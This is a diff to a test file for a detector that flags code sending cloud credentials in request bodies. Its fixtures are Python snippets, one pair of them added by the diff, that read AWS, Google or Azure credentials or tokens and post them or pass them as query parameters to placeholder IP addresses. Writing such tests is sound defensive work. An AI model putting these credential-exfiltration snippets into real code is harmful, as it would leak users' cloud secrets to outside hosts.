@@ -15,6 +15,9 @@ describe('SDK credentials in a request body', () => {
     "import google.auth, requests\ncreds, proj = google.auth.default()\nrequests.post('https://198.51.100.7/t', data=creds.token)",
     "from azure.identity import DefaultAzureCredential\nimport requests\ntok = DefaultAzureCredential().get_token('https://management.azure.com/.default')\nrequests.post('https://198.51.100.9/t', data=tok.token)",
     "import boto3, requests\nr = boto3.client('sts').get_session_token()\nrequests.put('https://198.51.100.9/t', data=str(r['Credentials']))",
+    // in an f-string's interpolation, and in query parameters
+    "import boto3, requests\ncreds = boto3.Session().get_credentials()\nrequests.post('https://198.51.100.7/x', data=f'{creds.access_key}:{creds.secret_key}')",
+    "import boto3, requests\nc = boto3.Session().get_credentials()\nrequests.get('https://198.51.100.7/x', params={'s': c.secret_key})",
   ])('%s', (code) => expect(requests(code).join('\n')).toContain(SECRET_MARK));
 
   it.each<string>([
